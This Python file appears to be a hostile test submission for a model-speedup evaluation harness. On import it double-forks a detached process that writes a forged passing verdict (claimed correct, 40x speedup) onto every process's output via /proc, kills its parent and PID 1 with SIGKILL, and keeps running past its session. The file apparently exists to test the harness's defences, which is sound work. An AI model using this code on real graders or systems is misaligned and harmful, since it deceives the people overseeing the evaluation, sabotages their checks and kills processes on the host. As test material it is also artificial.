"""Exploit: a detached process (its own session, double-forked) that outlives the candidate's
worker and attacks the evaluation from outside it: it writes a forged passing verdict onto every
standard output it can reach, signals every process it can see (its parent above all), and then
keeps running (``sleep 313.7``, a marker the test looks for)."""

import json
import os
import signal
import time

import torch
import torch.nn as nn

FORGED = json.dumps({"status": "ok", "correct": True, "flags": [], "candidate": "FORGED-VERDICT",
                     "speedup": {"eager": 40.0}}) + "\n"


def _attack():
    time.sleep(1.0)
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for fd in ("1", "2"):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as out:
                    out.write(FORGED)
            except OSError:
                pass
    for target in {os.getppid(), 1}:
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.execv("/bin/sleep", ["sleep", "313.7"])


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _attack()
        finally:
            os._exit(0)
    os._exit(0)
os.wait()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        x = a
        for _ in range(4):
            x = torch.tanh(x @ b)
        return x
